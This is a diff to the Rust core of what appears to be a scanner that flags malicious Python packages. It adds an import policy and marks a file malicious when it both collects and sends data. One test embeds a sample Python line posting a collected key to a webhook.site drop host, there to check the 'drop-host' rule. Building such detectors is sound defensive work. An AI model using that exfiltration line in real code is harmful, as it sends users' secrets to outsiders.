@@ -2,98 +2,99 @@
 //!
 //! A scan is a reader's help. The sandbox is the border.
 
-mod rule;
+mod advisory;
+mod declared;
+mod hit;
 
 use std::collections::BTreeSet;
+use std::io;
+use std::path::Path;
 
-use serde::Serialize;
+use crate::budget::Limits;
+use crate::model::{Analysis, Module};
+use crate::rule::{Rule, rules};
+use crate::verdict::Verdict;
+use crate::walk::analyze_folder;
 
-use crate::model::{Analysis, Module, Place};
-use rule::{Rule, rules};
+pub use advisory::Advisories;
+pub use declared::Declared;
+use hit::MAX_HITS_IN_FILE;
+pub use hit::{Hit, MAX_HITS, Scan};
 
-/// What a package looks like, from the least to the worst.
-#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
-#[serde(rename_all = "snake_case")]
-pub enum Verdict {
-    /// Nothing was found.
-    Clean,
-    /// Something is worth a look.
-    Notes,
-    /// A person has to look at it.
-    Suspicious,
-    /// Two stages of an attack stand in one file.
-    Malicious,
+/// What an operator demands of code. A hit is suspicious.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Policy {
+    /// Top-level modules that may be imported beside Python's library, the package and its `vendor/`. Empty: all.
+    pub allowed_imports: Vec<String>,
+    /// Modules that may not be imported, such as `ctypes` or `os.path`.
+    pub denied_imports: Vec<String>,
 }
 
-/// One hit of a rule.
-#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
-pub struct Hit {
-    /// The rule.
-    pub rule: &'static str,
-    /// How much it matters alone.
-    pub verdict: Verdict,
-    /// The file.
-    pub path: String,
-    /// Where in it.
-    pub place: Place,
-    /// What was found, such as the name that is called.
-    pub what: String,
-    /// Why it matters.
-    pub reason: &'static str,
-    /// How it is settled.
-    pub how: &'static str,
+/// Judges an unpacked package.
+pub fn scan_folder(
+    folder: &Path,
+    _declared: Option<&Declared>,
+    _policy: &Policy,
+    _advisories: &Advisories,
+    limits: &Limits,
+) -> io::Result<Scan> {
+    let analysis = analyze_folder(folder, limits)?;
+    Ok(scan(&analysis))
 }
 
-/// What a scan says.
-#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
-pub struct Scan {
-    /// The worst of it.
-    pub verdict: Verdict,
-    /// Every hit, in the order of the files.
-    pub hits: Vec<Hit>,
-}
-
-/// Hits of one rule in one file that are told.
-const MAX_HITS: usize = 20;
-
-/// Judges a package. Files that could not be read are findings of the analysis, and at least notes.
+/// Judges what an analysis found. Files that could not be read are hits, too.
 pub fn scan(analysis: &Analysis) -> Scan {
-    let mut verdict = if analysis.findings.is_empty() { Verdict::Clean } else { Verdict::Notes };
     let mut hits = Vec::new();
+    for finding in &analysis.findings {
+        hits.push(Hit {
+            rule: "unreadable".to_owned(),
+            verdict: Verdict::Notes,
+            path: finding.path.clone(),
+            place: finding.place,
+            what: finding.message.clone(),
+            reason: "What cannot be read is not judged.".to_owned(),
+            how: "Repair the file, or leave it out of the package.".to_owned(),
+        });
+    }
     for module in &analysis.modules {
         let mut stages = BTreeSet::new();
         for rule in rules() {
             let found = matches(rule, module);
             if !found.is_empty() {
                 stages.insert(rule.stage.as_str());
-                verdict = verdict.max(rule.verdict);
             }
             hits.extend(found);
         }
         // One stage alone has honest uses. What collects and also sends has hardly any.
         if stages.len() > 1 {
-            verdict = Verdict::Malicious;
+            for hit in hits.iter_mut().filter(|hit| hit.path == module.path && hit.verdict == Verdict::Suspicious) {
+                hit.verdict = Verdict::Malicious;
+            }
         }
     }
-    Scan { verdict, hits }
+    Scan {
+        files: analysis.modules.len() + analysis.objects.len(),
+        is_complete: analysis.is_complete(),
+        ..Scan::of(hits)
+    }
 }
 
-fn matches(rule: &'static Rule, module: &Module) -> Vec<Hit> {
+fn matches(rule: &Rule, module: &Module) -> Vec<Hit> {
     let hit = |place, what: &str| Hit {
-        rule: &rule.id,
+        rule: rule.id.clone(),
         verdict: rule.verdict,
         path: module.path.clone(),
-        place,
+        place: Some(place),
         what: what.to_owned(),
-        reason: &rule.reason,
-        how: &rule.how,
+        reason: rule.reason.clone(),
+        how: rule.how.clone(),
     };
     if rule.is_about_calls() {
         let calls = module.calls.iter().filter(|call| rule.hits_call(call));
-        return calls.take(MAX_HITS).map(|call| hit(call.place, &call.callee)).collect();
+        return calls.take(MAX_HITS_IN_FILE).map(|call| hit(call.place, &call.callee)).collect();
     }
     let uses = module.uses.iter().filter(|used| rule.hits_use(used));
-    uses.take(MAX_HITS).map(|used| hit(used.place, &used.what)).collect()
+    uses.take(MAX_HITS_IN_FILE).map(|used| hit(used.place, &used.what)).collect()
 }
 
 #[cfg(test)]
@@ -110,7 +111,7 @@ mod tests {
     #[test]
     fn every_rule_hits_its_hit_and_nothing_else() {
         for rule in rules() {
-            let names = |code: &str| scanned(code).hits.iter().map(|hit| hit.rule).collect::<BTreeSet<_>>();
+            let names = |code: &str| scanned(code).hits.into_iter().map(|hit| hit.rule).collect::<BTreeSet<_>>();
             assert_eq!(names(&rule.hit).into_iter().collect::<Vec<_>>(), [rule.id.as_str()], "{}", rule.hit);
             assert!(names(&rule.no_hit).is_empty(), "{}: {:?}", rule.id, scanned(&rule.no_hit));
         }
@@ -123,7 +124,7 @@ mod tests {
         let sent = format!("{collect}import requests\nrequests.post('https://webhook.site/x', data=key)\n");
         let scan = scanned(&sent);
         assert_eq!(scan.verdict, Verdict::Malicious);
-        assert!(scan.hits.iter().any(|hit| hit.place.line == 4 && hit.rule == "drop-host"), "{scan:?}");
+        assert!(scan.hits.iter().any(|hit| hit.place.unwrap().line == 4 && hit.rule == "drop-host"), "{scan:?}");
         assert_eq!(scanned("import json\nprint(json.dumps({}))\n").verdict, Verdict::Clean);
     }
 
